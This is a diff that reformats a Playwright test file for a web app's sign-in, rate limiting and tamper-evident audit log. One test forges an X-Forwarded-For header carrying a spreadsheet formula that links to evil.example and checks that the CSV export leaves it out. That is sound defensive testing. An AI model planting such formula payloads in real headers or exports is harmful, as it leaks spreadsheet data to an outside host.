@@ -34,7 +34,18 @@ const AREAS = {
     "Runs",
     "Audit log",
   ],
-  designer: ["Home", "Generate", "Jobs", "Library", "Costs", "Uploads", "Collections", "Exports", "Share links", "Developers"],
+  designer: [
+    "Home",
+    "Generate",
+    "Jobs",
+    "Library",
+    "Costs",
+    "Uploads",
+    "Collections",
+    "Exports",
+    "Share links",
+    "Developers",
+  ],
   reviewer: ["Home", "Review", "Library", "Uploads", "Collections", "Exports", "Share links", "Developers"],
   finance: ["Home", "Costs", "Budgets", "Developers"],
 } as const;
@@ -69,9 +80,17 @@ test("wrong password, unknown user, empty and oversized fields get one clear err
   await expect(page).toHaveURL(/\/sign-in/);
 });
 
-test("failed sign-ins are rate-limited per account, even with the right password afterwards", async ({ page, browser }) => {
+test("failed sign-ins are rate-limited per account, even with the right password afterwards", async ({
+  page,
+  browser,
+}) => {
   // Its own account, so locking it out cannot affect any other journey.
-  const { user: person, close } = await createUserAsAdmin(browser, { name: "Locked Out", role: "finance", prefix: "locked", password: "the right passphrase" });
+  const { user: person, close } = await createUserAsAdmin(browser, {
+    name: "Locked Out",
+    role: "finance",
+    prefix: "locked",
+    password: "the right passphrase",
+  });
   await close();
 
   const signIn = new SignInPage(page);
@@ -92,12 +111,16 @@ test("failed and refused sign-ins are in the audit log", async ({ page }) => {
   await expect(page.getByText("auth.sign_in_rate_limited", { exact: true }).first()).toBeVisible();
 });
 
-test("an admin verifies the audit log now: a signed checkpoint is written, the page verifies from it and the export names it", async ({ page }) => {
+test("an admin verifies the audit log now: a signed checkpoint is written, the page verifies from it and the export names it", async ({
+  page,
+}) => {
   await new SignInPage(page).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
   await page.goto("/admin/audit");
   await expect(page.getByTestId("chain-status")).toContainText("Chain verified");
   await page.getByTestId("audit-verify-now").click();
-  const result = page.getByRole("status").filter({ hasText: /checkpoint #\d+ written and signed|No new entries since the last checkpoint/ });
+  const result = page
+    .getByRole("status")
+    .filter({ hasText: /checkpoint #\d+ written and signed|No new entries since the last checkpoint/ });
   await expect(result).toBeVisible();
   // The page now verifies from the signed checkpoint: "verified through #seq at time; N new entries verified now".
   await expect(page.getByTestId("chain-status")).toContainText(
@@ -112,7 +135,9 @@ test("an admin verifies the audit log now: a signed checkpoint is written, the p
   expect(Number(header?.[1])).toBeGreaterThanOrEqual(Number(seq));
 });
 
-test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audit log records: the connection's address is", async ({ browser }) => {
+test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audit log records: the connection's address is", async ({
+  browser,
+}) => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
   const forger = await browser.newContext({ extraHTTPHeaders: { "x-forwarded-for": formula } });
   const page = await forger.newPage();
@@ -126,7 +151,11 @@ test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audi
   const admin = await browser.newContext();
   const adminPage = await admin.newPage();
   await new SignInPage(adminPage).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
-  const csv = await (await adminPage.request.get(`/api/admin/audit/export?action=auth.sign_in_failed&actorEmail=${encodeURIComponent(email)}`)).text();
+  const csv = await (
+    await adminPage.request.get(
+      `/api/admin/audit/export?action=auth.sign_in_failed&actorEmail=${encodeURIComponent(email)}`,
+    )
+  ).text();
   const row = csv.split(/\r?\n/).find((line) => line.includes(email));
   expect(row).toBeDefined();
   expect(row).not.toContain("HYPERLINK");
